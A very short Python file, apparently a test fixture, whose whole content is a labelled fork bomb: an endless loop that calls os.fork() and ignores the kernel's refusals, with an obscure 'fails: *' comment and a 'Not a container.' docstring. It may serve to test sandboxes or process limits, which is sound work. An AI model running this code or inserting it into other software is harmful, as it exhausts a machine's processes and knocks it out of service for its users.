# A fork bomb: every process starts others, and tries again at once where the kernel refuses.
# fails: *

"""Not a container."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
